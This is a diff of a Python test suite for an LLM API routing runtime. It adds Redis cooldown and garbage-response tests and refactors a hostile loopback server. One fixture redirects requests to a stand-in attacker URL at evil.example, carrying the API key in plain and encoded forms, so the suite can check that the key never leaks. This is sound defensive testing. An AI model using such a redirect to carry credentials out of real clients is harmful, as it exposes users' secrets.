@@ -8,8 +8,10 @@ here: bounds come from what the servers recorded (bytes sent before the client h
 
 from __future__ import annotations
 
+import asyncio
 import base64
 import json
+import socketserver
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import quote
@@ -17,7 +19,9 @@ from urllib.parse import quote
 import pytest
 
 from pbcfg.runtime import AllAttemptsFailed, load_runtime
-from servers import CREDENTIAL_VARIABLES, said, write_config
+from conftest import reply
+from servers import _Serving, CREDENTIAL_VARIABLES, said, write_config
+from test_rate_limit_redis import redis_client, redis_url  # noqa: F401 (fixtures: a real redis-server)
 
 KEY = "sk-ant-hostile-0123456789abcdef"
 GEMINI_KEY = "AIza-hostile-key-0123456789ABCDEF"
@@ -41,14 +45,13 @@ def leaked(text: str, *secrets: str) -> list[str]:
     )
 
 
-class Loopback:
-    """An HTTP server on 127.0.0.1 whose every request runs ``script(handler)``; :attr:`seen` records each request
-    as (method, raw path, headers)."""
+class Loopback(_Serving):
+    """An HTTP/1.1 server on 127.0.0.1 whose every request runs ``script(handler)``; :attr:`seen` records each
+    request as (method, raw path, headers)."""
 
     def __init__(self, script) -> None:
         self.script = script
         self.seen: list[tuple[str, str, dict]] = []
-        owner = self
 
         class Handler(BaseHTTPRequestHandler):
             protocol_version = "HTTP/1.1"
@@ -57,8 +60,8 @@ class Loopback:
                 pass
 
             def _any(self) -> None:
-                length = int(self.headers.get("Content-Length") or 0)
-                self.rfile.read(length)
+                owner = self.server.owner  # type: ignore[attr-defined]
+                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                 owner.seen.append((self.command, self.path, dict(self.headers)))
                 try:
                     owner.script(self)
@@ -67,29 +70,7 @@ class Loopback:
 
             do_GET = do_POST = _any
 
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.server.daemon_threads = True
-
-    def __enter__(self):
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-        return self
-
-    def __exit__(self, *exc_info) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-
-    @property
-    def root(self) -> str:
-        return f"http://127.0.0.1:{self.server.server_address[1]}"
-
-
-def answer(handler, status: int, body: bytes, headers: dict | None = None) -> None:
-    handler.send_response(status)
-    for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
-        handler.send_header(name, value)
-    handler.send_header("Content-Length", str(len(body)))
-    handler.end_headers()
-    handler.wfile.write(body)
+        super().__init__(Handler)
 
 
 def anthropic_runtime(tmp_path, root: str, **options):
@@ -111,8 +92,8 @@ def echoes(handler) -> None:
     forms = [key, quote(key, safe=""), base64.b64encode(key.encode()).decode(), base64.b64encode(b"x:" + key.encode())]
     text = " ".join(str(form) for form in forms)
     if handler.command == "GET":
-        return answer(handler, 302, b"", {"Location": f"http://evil.example/?k={key}&b={forms[2]}"})
-    answer(
+        return reply(handler, 302, b"", {"Location": f"http://evil.example/?k={key}&b={forms[2]}"})
+    reply(
         handler,
         401,
         json.dumps({"error": {"type": "authentication_error", "message": f"bad key {text}"}}).encode(),
@@ -133,3 +114,93 @@ def test_a_server_echoing_the_key_in_every_form_shows_none_of_it(tmp_path, run):
         status = run("status", "--config-dir", tmp_path, "--format", "json")
         assert leaked(status.out + status.err, KEY, base64.b64encode(KEY.encode()).decode()) == []
         runtime.close()
+
+
+# -- Redis: an absurd shared cooldown, and garbage instead of answers ------------------------------------------
+
+ANTHROPIC_OK = json.dumps(
+    {
+        "type": "message",
+        "content": [{"type": "text", "text": "fine"}],
+        "stop_reason": "end_turn",
+        "usage": {"input_tokens": 1, "output_tokens": 1},
+    }
+).encode()
+
+
+def two_anthropic_endpoints(tmp_path, root: str) -> None:
+    """Custom endpoints ``first`` and ``second`` (priority in that order) serving ``MODEL`` at ``root``."""
+    endpoint = {"enabled": True, "protocol": "anthropic"}
+    write_config(
+        tmp_path,
+        {
+            "first": ({**endpoint, "priority": 1}, {"apiKey": KEY, "baseUrl": root + "/v1/messages"}),
+            "second": ({**endpoint, "priority": 2}, {"apiKey": KEY, "baseUrl": root + "/v1/messages"}),
+        },
+        {MODEL: ["first", "second"]},
+        retries=0,
+    )
+
+
+def test_an_absurd_cooldown_shared_through_redis_is_cut_to_the_cap(redis_url, redis_client, tmp_path):
+    with Loopback(lambda handler: reply(handler, 200, ANTHROPIC_OK)) as server:
+        two_anthropic_endpoints(tmp_path, server.root)
+        key = f"pbcfg:cooldown:5:first:{MODEL}"
+        redis_client.set(key, b"1", px=10**12)  # another worker (or anyone) asked for 31 years
+        with load_runtime(tmp_path, env={}, rate_limit_storage=redis_url, sleep=lambda s: None) as runtime:
+            result = runtime.complete(HI, tier="simple")
+        assert [(a.endpoint, a.outcome) for a in result.attempts] == [("first", "cooldown"), ("second", "ok")]
+        assert 0 < redis_client.pttl(key) <= 60_000  # the runtime's longest cooldown: its Retry-After cap
+
+
+class GarbageRedis:
+    """A TCP server on 127.0.0.1 that reads RESP commands and answers each with ``+garbage``."""
+
+    def __init__(self) -> None:
+        class Handler(socketserver.BaseRequestHandler):
+            def handle(self) -> None:
+                buffer = b""
+                while data := self.request.recv(65536):
+                    buffer += data
+                    commands, buffer = _commands(buffer)
+                    self.request.sendall(b"+garbage\r\n" * commands)
+
+        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+
+    def __enter__(self):
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        return f"redis://127.0.0.1:{self.server.server_address[1]}"
+
+    def __exit__(self, *exc_info) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _commands(buffer: bytes) -> tuple[int, bytes]:
+    """(complete RESP commands at the head of ``buffer``, what is left)."""
+    count = 0
+    while buffer.startswith(b"*") and b"\r\n" in buffer:
+        head, rest = buffer.split(b"\r\n", 1)
+        for _ in range(int(head[1:])):
+            if b"\r\n" not in rest:
+                return count, buffer
+            size, rest = rest.split(b"\r\n", 1)
+            if len(rest) < int(size[1:]) + 2:
+                return count, buffer
+            rest = rest[int(size[1:]) + 2 :]
+        buffer, count = rest, count + 1
+    return count, buffer
+
+
+def test_garbage_from_redis_is_an_outage_and_the_call_is_answered(tmp_path, caplog):
+    caplog.set_level("WARNING", "pbcfg.runtime")
+    with Loopback(lambda handler: reply(handler, 200, ANTHROPIC_OK)) as server, GarbageRedis() as uri:
+        two_anthropic_endpoints(tmp_path, server.root)
+        runtime = load_runtime(tmp_path, env={}, rate_limit_storage=uri, sleep=lambda s: None)
+        result = runtime.complete(HI, tier="simple")
+        assert [(a.endpoint, a.outcome) for a in result.attempts] == [("first", "ok")]
+        asyncio.run(runtime.acomplete(HI, tier="simple"))
+        runtime.close()
+    [message] = [record.getMessage() for record in caplog.records]
+    assert message.startswith(f"pbcfg: Redis at {uri} did not answer")
